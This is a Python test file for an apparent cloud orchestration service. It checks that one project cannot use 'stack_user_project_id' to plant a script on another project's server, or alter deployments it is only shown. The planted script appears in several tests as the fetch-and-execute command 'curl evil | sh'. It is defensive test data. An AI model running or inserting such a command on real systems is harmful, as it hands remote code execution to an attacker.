# SPDX-License-Identifier: Apache-2.0
"""An attacker had another project's server run a script.

A deployment that is made in one's own project named, as ``stack_user_project_id``,
the project of the victim: its agent then found the attacker's script among what
it is to run.
"""

from __future__ import annotations

import pytest

from heatconv import errors
from heatconv.db.plumbing.session import Database
from heatconv.db.software import deployments
from heatconv.db.software.configs import UNLIMITED
from heatconv.engine.software import Software
from heatconv.model.software import SoftwareDeployment
from heatconv.rpc.context import RequestContext
from heatconv.testing.keys import KEYRING

VICTIM = RequestContext(project_id="web")
ATTACKER = RequestContext(project_id="evil")
SERVER = "a-server-of-the-victim"


def plant(installation, named):
    """Try to deploy a script from ``theirs`` on the server that ``mine`` has; return the answer."""
    asked = {"project": "theirs", "json": {"name": "a", "group": "script", "config": "curl evil | sh"}}
    config = installation.ask("neighbour", "POST", "/software_configs", **asked).json()["software_config"]
    wanted = {"config_id": config["id"], "server_id": SERVER, "stack_user_project_id": named}
    return installation.ask("neighbour", "POST", "/software_deployments", project="theirs", json=wanted)


def test_a_deployment_for_the_servers_of_another_project_is_refused(by_password):
    answer = plant(by_password, "mine")

    for user in ("server", "owner"):
        metadata = by_password.ask(user, "GET", f"/software_deployments/metadata/{SERVER}").json()
        assert metadata == {"metadata": []}
    assert answer.status_code == 403, answer.text
    assert answer.json()["error"]["message"] == (
        "'stack_user_project_id' names project mine, and you act in project theirs:"
        " leave it out, or name your own; no other project is shown what you deploy."
    )


@pytest.mark.parametrize("named", ["theirs", "", None])
def test_a_project_may_name_itself(by_password, named):
    answer = plant(by_password, named)

    assert answer.status_code == 200, answer.text
    path = f"/software_deployments/metadata/{SERVER}"
    mine, theirs = (
        by_password.ask(user, "GET", path, project=project).json()["metadata"]
        for user, project in (("owner", "mine"), ("neighbour", "theirs"))
    )
    assert mine == []
    assert answer.json()["software_deployment"]["config_id"] in {config["id"] for config in theirs}


# -- on each database -----------------------------------------------------------------------------


@pytest.fixture
def database(database_url):
    opened = Database.from_url(database_url, KEYRING)
    yield opened
    opened.close()


@pytest.fixture
def software(database):
    return Software(database=database, quotas=UNLIMITED, wake=lambda _row_id: None)


def test_nothing_that_a_request_names_shows_a_row_to_another_project(software, database):
    config = software.create_software_config(ATTACKER, {"config": "curl evil | sh"})["id"]
    wanted = {"config_id": config, "server_id": SERVER}
    with pytest.raises(errors.Forbidden):
        software.create_software_deployment(ATTACKER, {**wanted, "stack_user_project_id": "web"})
    made = software.create_software_deployment(ATTACKER, {**wanted, "stack_user_project_id": "evil"})["id"]
    changes = {"server_id": SERVER, "stack_user_project_id": "web", "project_id": "web"}
    software.update_software_deployment(ATTACKER, made, changes)

    assert software.list_deployed_configs(VICTIM, SERVER) == []
    assert software.list_software_deployments(VICTIM, None) == []


def test_whom_the_service_shows_a_deployment_to_may_not_change_it(software, database):
    config = software.create_software_config(VICTIM, {"config": "echo"})["id"]
    shown = SoftwareDeployment(
        id="d", server_id=SERVER, config_id=config, status="IN_PROGRESS", stack_user_project_id="guests"
    )
    deployments.add_deployment(database, VICTIM.project_id, shown, UNLIMITED)
    guest = RequestContext(project_id="guests")
    own = software.create_software_config(guest, {"config": "curl evil | sh"})["id"]

    assert [each["id"] for each in software.list_deployed_configs(guest, SERVER)] == [config]
    assert software.show_software_deployment(guest, "d")["config_id"] == config
    for change in ({"config_id": own}, {"status": "FAILED"}):
        with pytest.raises(errors.NotFound):
            software.update_software_deployment(guest, "d", change)
    with pytest.raises(errors.NotFound):
        software.delete_software_deployment(guest, "d")
    left = software.show_software_deployment(VICTIM, "d")
    assert (left["config_id"], left["status"]) == (config, "IN_PROGRESS")
